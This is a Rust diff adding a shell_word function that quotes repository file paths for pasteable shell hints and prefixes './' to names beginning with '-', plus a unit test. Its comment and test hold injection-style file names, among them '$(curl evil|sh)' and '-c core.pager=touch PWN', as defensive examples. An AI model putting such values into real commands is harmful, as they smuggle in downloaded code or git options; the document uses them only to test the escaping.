@@ -254,6 +254,28 @@ pub fn looks_secret(key: &str) -> bool {
     WORDS.iter().any(|w| upper.contains(w))
 }
 
+/// `path` as one word of a shell command in a hint, safe to paste: quoted when it holds
+/// anything but the usual file-name characters, and `./` in front of a relative name that
+/// starts with `-` (so `chmod` or `git rm` does not read it as an option). File names in a
+/// repository are anyone's choice (`$(curl evil|sh)`, `-c core.pager=...`).
+pub fn shell_word(path: &std::path::Path) -> String {
+    let text = path.to_string_lossy();
+    let text = if text.starts_with('-') {
+        format!("./{text}")
+    } else {
+        text.into_owned()
+    };
+    let plain = !text.is_empty()
+        && text
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_./@%+=:,-".contains(c));
+    if plain {
+        text
+    } else {
+        format!("'{}'", text.replace('\'', "'\\''"))
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -293,5 +315,22 @@ mod tests {
             assert_eq!(serde_json::to_value(c).unwrap(), id);
             assert_eq!(c.id(), id);
         }
+    }
+
+    #[test]
+    fn a_file_name_in_a_hint_is_one_safe_shell_word() {
+        use std::path::Path;
+        assert_eq!(
+            shell_word(Path::new(".env.production.local")),
+            ".env.production.local"
+        );
+        assert_eq!(shell_word(Path::new("/srv/app/.env")), "/srv/app/.env");
+        assert_eq!(shell_word(Path::new("-rf")), "./-rf");
+        assert_eq!(
+            shell_word(Path::new("-c core.pager=touch PWN")),
+            "'./-c core.pager=touch PWN'"
+        );
+        assert_eq!(shell_word(Path::new("a'b $(x)")), "'a'\\''b $(x)'");
+        assert_eq!(shell_word(Path::new("")), "''");
     }
 }
